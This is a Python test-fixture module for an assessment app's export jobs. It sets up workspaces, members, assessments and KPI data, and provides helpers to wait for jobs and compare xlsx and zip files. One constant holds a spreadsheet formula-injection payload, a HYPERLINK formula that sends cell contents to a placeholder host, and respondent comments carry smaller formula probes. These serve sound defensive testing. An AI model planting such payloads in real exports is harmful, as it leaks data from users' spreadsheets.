"""A workspace for the export-job tests, and the tools to wait for a job and compare files.

Workspace `nord` has two clients — a named assessment with comments under a name a
spreadsheet would run as a formula, and an anonymous one — with targets and a key
figure; members: an owner, a consultant, a consultant listed for client 1 only, a
viewer. Workspace `sued` has an owner and a client of its own.
"""

from __future__ import annotations

import io
import json
import time
import zipfile
from dataclasses import dataclass

import openpyxl
from factories import (
    cx_maturity,
    make_assessment,
    make_member,
    make_organization,
    make_respondent,
    make_workspace,
)

from cxmaturity.services.snapshots import refresh_snapshot
from cxmaturity.store.database import reading, transaction
from cxmaturity.store.models import ExportJob, KpiValue, Target, utc_now

HOSTILE = '=HYPERLINK("http://x?"&A1)'
WAIT_SECONDS = 120  # a busy machine of two cores


@dataclass(frozen=True)
class ExportWorld:
    slug: str
    workspace_id: int
    owner_id: int
    emails: dict[str, str]
    """"owner", "consultant", "limited", "viewer" of nord; "other" (sued's owner)."""
    client_ids: tuple[int, int]
    other_slug: str


def build_export_world(sessions, catalogue) -> ExportWorld:
    questionnaire = cx_maturity()
    with transaction(sessions) as session:
        nord = make_workspace(session, slug="nord", name="Beratung Nord")
        named = make_organization(session, name=HOSTILE, workspace=nord)
        hidden = make_organization(session, name="Ärzte & Co. KG", workspace=nord)
        owner = make_member(session, nord, role="owner")
        emails = {
            "owner": owner.email,
            "consultant": make_member(session, nord, role="consultant").email,
            "limited": make_member(session, nord, listed_clients=[named]).email,
            "viewer": make_member(session, nord, role="viewer").email,
        }
        for client, anonymity in ((named, "named"), (hidden, "anonymous")):
            assessment = make_assessment(session, client, period="2026-Q3", status="closed")
            assessment.anonymity = anonymity
            assessment.closed_at = utc_now()
            for number, name in enumerate(("Anna", "Ben", "Cem")):
                answers = dict.fromkeys(questionnaire.questions, 2 + number)
                comments = {next(iter(questionnaire.questions)): f"-{name} says: =1+1"}
                make_respondent(
                    session, assessment, name, answers=answers, comments=comments, submitted=True
                )
            session.flush()
            refresh_snapshot(session, catalogue, assessment)
            session.add(
                Target(
                    organization_id=client.id,
                    questionnaire_id="cx-maturity",
                    dimension_id="strategy",
                    target_level=4,
                )
            )
            session.add(
                KpiValue(
                    organization_id=client.id,
                    period="2026-Q3",
                    kpi="nps",
                    inputs=json.dumps({"promoters": "50", "detractors": "10", "responses": "90"}),
                    value="400/9",
                )
            )
        sued = make_workspace(session, slug="sued", name="Beratung Süd")
        emails["other"] = make_member(session, sued, role="owner").email
        make_organization(session, name="Fremde AG", workspace=sued)
        return ExportWorld("nord", nord.id, owner.id, emails, (named.id, hidden.id), "sued")


def wait_until_finished(sessions, job_id: int, seconds: float = WAIT_SECONDS) -> ExportJob:
    """The job's row once it is done or failed (the background thread runs it)."""
    deadline = time.monotonic() + seconds
    while True:
        with reading(sessions) as session:
            job = session.get_one(ExportJob, job_id)
        if job.status in ("done", "failed") or time.monotonic() > deadline:
            return job
        time.sleep(0.1)


def xlsx_cells(data: bytes) -> dict[str, list[tuple]]:
    """Every sheet's cell values, row by row: a workbook's content without its timestamps."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {
        sheet.title: [tuple(cell.value for cell in row) for row in sheet.iter_rows()]
        for sheet in book.worksheets
    }


def zip_members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}
